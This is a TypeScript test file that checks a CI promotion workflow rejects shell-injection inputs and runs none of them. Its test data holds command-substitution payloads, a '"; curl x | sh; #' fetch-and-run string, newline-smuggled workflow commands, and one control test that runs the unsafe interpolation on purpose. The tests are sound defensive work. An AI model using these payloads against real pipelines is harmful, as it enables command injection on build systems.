import { chmodSync, existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { loadWorkflow, makeRunnerTemp, runWorkflow, type WorkflowRun } from "../helpers/actions-runner.js";

/**
 * promote.yml's first job, run for real (bash, with the workflow's own `env:` mapping,
 * through the runner harness) on hostile inputs: it must reject them with a message that
 * names each input, and execute nothing they carry. Markers prove it: the payloads would
 * create files, and `curl` is replaced by a stub that would create one too.
 */

const DIGEST = `sha256:${"ab".repeat(32)}`;
let scratch: string;
let fakeBin: string;
let runnerTemp: { dir: string; remove: () => void };

beforeAll(() => {
  scratch = mkdtempSync(join(tmpdir(), "astrolens-injection-"));
  fakeBin = join(scratch, "bin");
  mkdirSync(fakeBin);
  // If "; curl x | sh; #" ever ran, this curl would leave its mark (and no network is used).
  writeFileSync(join(fakeBin, "curl"), `#!/bin/sh\ntouch "${join(scratch, "curl-ran")}"\n`);
  chmodSync(join(fakeBin, "curl"), 0o755);
  runnerTemp = makeRunnerTemp();
});

afterAll(() => {
  rmSync(scratch, { recursive: true, force: true });
  runnerTemp.remove();
});

function validate(inputs: Record<string, string>, env: Record<string, string> = {}): Promise<WorkflowRun> {
  return runWorkflow(loadWorkflow("promote.yml"), {
    event: { ref: "refs/heads/main", inputs },
    eventName: "workflow_dispatch",
    jobs: ["validate"],
    env: { PATH: `${fakeBin}:${process.env.PATH ?? ""}`, ...env },
    runnerTemp: runnerTemp.dir,
  });
}

const marker = (name: string) => join(scratch, name);

describe("promote.yml validates its inputs before anything runs", () => {
  it("accepts a digest, two known environments and a model version, and outputs them", async () => {
    const run = await validate({
      digest: DIGEST,
      "source-environment": "staging",
      "target-environment": "production",
      "model-version": "v2.0.0",
    });
    const job = run.jobs.validate;
    expect(job?.status, job?.steps[0]?.log).toBe("success");
    expect(job?.outputs).toEqual({
      digest: DIGEST,
      source: "staging",
      target: "production",
      "model-version": "v2.0.0",
    });
  });

  it.each(["2.0.0", "v2.0.0", "v2", "v10"])("accepts model version %s", async (version) => {
    const run = await validate({
      digest: DIGEST,
      "source-environment": "staging",
      "target-environment": "production",
      "model-version": version,
    });
    expect(run.jobs.validate?.status, run.steps[0]?.log).toBe("success");
  });

  it("rejects shell in every input with a clear message, and runs none of it", async () => {
    const run = await validate({
      digest: `sha256:$(touch ${marker("digest-ran")})`,
      "source-environment": `staging$(touch ${marker("source-ran")})`,
      "target-environment": `production\`touch ${marker("target-ran")}\``,
      "model-version": `"; curl x | sh; touch ${marker("model-ran")}; #`,
    });
    const job = run.jobs.validate;
    const log = job?.steps[0]?.log ?? "";
    expect(job?.status, log).toBe("failure");
    expect(job?.outputs).toEqual({ digest: "", source: "", target: "", "model-version": "" });
    expect(log).toContain(
      "::error title=promote: invalid input digest::expected sha256: and 64 lower-case hex digits (push-image's digest output), got ",
    );
    expect(log).toContain(
      "::error title=promote: invalid input source-environment::expected one of: staging production",
    );
    expect(log).toContain(
      "::error title=promote: invalid input target-environment::expected one of: staging production",
    );
    expect(log).toContain(
      "::error title=promote: invalid input model-version::expected a manifest version such as 2.0.0 or v2.0.0, or a model folder such as v2",
    );
    expect(log).toContain("promote: 4 invalid input(s); nothing was run");
    // The rejected values are shown escaped (printf %q), not interpreted.
    expect(log).toContain("sha256:\\$\\(touch");
    for (const name of ["digest-ran", "source-ran", "target-ran", "model-ran", "curl-ran"]) {
      expect(existsSync(marker(name)), `${name}: an input was executed`).toBe(false);
    }
  });

  it("rejects the issue's example model version on its own", async () => {
    const run = await validate({
      digest: DIGEST,
      "source-environment": "staging",
      "target-environment": "production",
      "model-version": '"; curl x | sh; #',
    });
    expect(run.jobs.validate?.status).toBe("failure");
    expect(run.steps[0]?.log).toContain("invalid input model-version");
    expect(existsSync(marker("curl-ran"))).toBe(false);
  });

  it("a value cannot smuggle a second output or a workflow command through a new line", async () => {
    const run = await validate({
      digest: `${DIGEST}\ntarget=production`,
      "source-environment": "staging",
      "target-environment": "production",
      "model-version": "v2\n::add-mask::x",
    });
    const log = run.steps[0]?.log ?? "";
    expect(run.jobs.validate?.status).toBe("failure");
    expect(run.jobs.validate?.outputs.target).toBe("");
    // %q prints the new line as $'…\n…': no line of the log starts a workflow command of the input's.
    expect(log.split("\n").some((line) => line.startsWith("::add-mask::"))).toBe(false);
  });

  it("refuses the same environment as source and target, an unknown one, and local outside local mode", async () => {
    const same = await validate({
      digest: DIGEST,
      "source-environment": "staging",
      "target-environment": "staging",
      "model-version": "v2",
    });
    expect(same.steps[0]?.log).toContain(
      "invalid input target-environment::must differ from source-environment",
    );
    const unknown = await validate({
      digest: DIGEST,
      "source-environment": "prod",
      "target-environment": "production",
      "model-version": "v2",
    });
    expect(unknown.steps[0]?.log).toContain(
      "invalid input source-environment::expected one of: staging production, got prod",
    );
    const local = await validate({
      digest: DIGEST,
      "source-environment": "local",
      "target-environment": "staging",
      "model-version": "v2",
    });
    expect(local.jobs.validate?.status).toBe("failure");
    const localMode = await validate(
      {
        digest: DIGEST,
        "source-environment": "local",
        "target-environment": "staging",
        "model-version": "v2",
      },
      { ACT: "true" },
    );
    expect(localMode.jobs.validate?.status, localMode.steps[0]?.log).toBe("success");
  });

  it("control: the same payload expanded into the script (what an inputs expression in run: would do) does run", async () => {
    // Proves the markers would catch an injection: this is the unsafe pattern the
    // workflow avoids, executed on purpose.
    const script = join(scratch, "unsafe.sh");
    const payload = `"; touch ${marker("control-ran")}; #`;
    writeFileSync(script, `version="${payload}"\necho "$version"\n`);
    const { spawnSync } = await import("node:child_process");
    spawnSync("bash", ["--noprofile", "--norc", "-eo", "pipefail", script]);
    expect(existsSync(marker("control-ran"))).toBe(true);
  });
});
